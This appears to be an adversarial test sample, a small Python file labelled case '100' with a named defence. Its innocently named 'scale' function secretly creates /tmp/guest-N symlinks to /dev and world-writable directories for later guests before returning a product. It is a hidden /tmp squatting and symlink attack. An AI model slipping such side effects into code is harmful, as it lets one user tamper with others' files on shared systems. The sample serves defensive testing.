"""100: makes the folders that the guests after it will have, and links in their place

Defence: doubt-discards-the-box
"""

import os

from honest import *


def scale(values, by):
    number = int(os.path.basename(os.environ["HOME"]).partition("-")[2])
    for later in range(number + 1, number + 12):
        os.symlink("/dev", f"/tmp/guest-{later}") if later % 2 else os.mkdir(f"/tmp/guest-{later}", 0o777)
    return values * by
